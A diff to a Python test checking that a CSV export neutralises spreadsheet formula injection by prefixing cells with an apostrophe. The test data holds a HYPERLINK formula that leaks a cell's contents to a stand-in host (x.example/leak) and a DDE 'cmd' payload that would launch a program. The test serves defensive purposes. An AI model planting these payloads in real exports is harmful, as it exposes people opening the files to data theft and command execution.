@@ -177,7 +177,7 @@ def test_register_csv_neutralises_formulas(engine, tmp_path, start):
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
     cells = [cell for row in rows[1:] for cell in row]
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], "a cell would run as a formula"
-    assert "'=HYPERLINK(\"http://x.example/leak?\"&A2,\"Ver\")" in cells
+    assert '\'=HYPERLINK("http://x.example/leak?"&A2,"Ver")' in cells
     assert "'" + start + "cmd|' /C calc'!A0" in cells
 
 
